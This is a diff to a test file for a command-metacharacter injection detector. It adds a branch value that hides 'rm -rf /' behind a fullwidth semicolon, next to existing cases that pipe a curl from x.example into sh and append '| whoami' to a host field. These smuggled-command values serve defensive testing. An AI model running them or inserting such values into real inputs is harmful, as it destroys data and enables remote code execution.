@@ -3,6 +3,7 @@ import { commandMetacharacters } from './command-metacharacters.js';
 
 describeDetector(commandMetacharacters, {
   attacks: [
+    args({ branch: 'main\uff1brm -rf /' }),
     args({ branch: 'main; curl x.example|sh' }),
     args({ branch: 'main && cat notes' }),
     args({ host: '203.0.113.5 | whoami' }),
